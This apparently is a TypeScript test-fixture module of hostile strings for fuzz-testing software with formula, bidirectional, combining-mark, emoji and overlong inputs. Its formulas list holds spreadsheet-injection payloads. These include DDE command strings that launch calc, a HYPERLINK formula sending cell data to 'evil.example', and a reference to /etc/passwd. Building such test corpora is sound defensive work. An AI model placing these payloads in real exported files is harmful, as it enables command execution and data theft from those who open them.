// Families of nasty texts that are about single signs: formulas, directions, marks, emoji, length. Used by nasty-corpus.ts.

export const range = (first: number, last: number): readonly number[] =>
  Array.from({ length: last - first + 1 }, (_, n) => first + n)
export const sign = (code: number): string => String.fromCodePoint(code)
/** Halves of signs too, which no code point is. */
export const unit = (...codes: readonly number[]): string => String.fromCharCode(...codes)
export const hex = (code: number): string => code.toString(16).padStart(4, '0')
export const across = (
  some: readonly string[],
  others: readonly string[],
  join: (one: string, other: string) => string,
): readonly string[] => some.flatMap((one) => others.map((other) => join(one, other)))

const formulaSigns = ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠']
const before = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\u200b',
  '\u3000',
  '\ufeff',
  "'",
  '"',
  '\u202e',
  '\u00ad',
]
export const formulas: readonly string[] = [
  ...across(before, formulaSigns, (space, first) => `${space}${first}SUM(1+1)*cmd|' /C calc'!A0`),
  '=HYPERLINK("http://evil.example/?"&A1,"klik")',
  '=WEBSERVICE("http://evil.example")',
  "='file:///etc/passwd'#$passwd.A1",
  '=DDE("cmd";"/C calc";"!A0")',
  '=IMPORTDATA("http://evil.example")',
  '-2+3+cmd|" /C calc"!A0',
  '+31 6 12345678',
  '-5',
  '@naam',
  '=1',
  '{=SUM(A1:A9)}',
  '=A1:A9',
]

const bidi = [0x061c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)]
export const directions: readonly string[] = [
  ...bidi.flatMap((code) => [
    `${sign(code)}voor ${hex(code)}`,
    `mid${sign(code)}den`,
    `na ${hex(code)}${sign(code)}`,
    `عربي${sign(code)}123`,
  ]),
  `a${sign(0x202e).repeat(60)}b`,
  `\u2066\u2067\u2068 open gelaten`,
]

const marks = ['\u0301', '\u0315', '\u0489', '\u0362', '\u064b', '\u0e49', '\u20dd']
export const zalgo: readonly string[] = [
  ...across(
    marks,
    ['1', '2', '3', '4', '9', '40'],
    (mark, high) => `za${mark.repeat(Number(high))}lgo ${high}`,
  ),
  [...'heel het woord'].map((letter) => letter + '\u0315\u0489\u0362\u0334'.repeat(4)).join(''),
  marks.join('').repeat(20),
]

const people = ['👩', '👨', '🧑', '👵']
const tones = ['', '🏻', '🏽', '🏿']
export const emoji: readonly string[] = [
  ...across(people, tones, (who, tone) => `${who}${tone}\u200d🚒 aan zet`),
  '👨‍👩‍👧‍👦',
  '👩‍❤️‍💋‍👨',
  '🏳️‍🌈',
  '🏴‍☠️',
  '🐻‍❄️',
  '❤️‍🔥',
  '🧑🏿‍🤝‍🧑🏻',
  '🚲',
  '🫱🏽‍🫲🏻',
  '🇧🇪',
  '🇳🇱🇫🇷',
  '🇹🇷',
  '🇧',
  '🇧🇪🇧',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '🏴󠁧󠁢',
  '\u{e0001}\u{e0067}tag',
  ...[...'0123456789#*'].map((key) => `${key}\ufe0f\u20e3 toets`),
  '☎︎',
  '☎️',
  '©️',
  '\ufe0f los',
  '👍\ufe0e',
  '👩\u200d',
  '\u200d👩',
  '👨‍👩‍👧‍👦'.repeat(25),
]

export const longest = 280
export const long: readonly string[] = [
  ...[
    'w',
    'Ğ',
    'ş',
    'ı',
    'ß',
    'م',
    'ش',
    'בּ',
    '中',
    '語',
    'あ',
    '한',
    'ก',
    'ན',
    '🚲',
    '𝕏',
    'ﷺ',
    '𒐫',
    '﷽',
    '—',
    '_',
    '.',
  ].map((letter) => [...letter.repeat(longest)].slice(0, longest).join('')),
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(3),
  'muvaffakiyetsizleştiricileştiriveremeyebileceklerimizdenmişsinizcesine'.repeat(4),
  'فأسقيناكموه'.repeat(25),
  '👨‍👩‍👧‍👦'.repeat(40),
  'https://voorbeeld.be/'.padEnd(longest, 'a/b?c=d&'),
  'een woord en nog een '.repeat(13),
  'لا أحد ينظر إلى '.repeat(17),
  `a${' '.repeat(270)}b`,
  'te lang '.repeat(60),
  'x'.repeat(longest + 1),
]
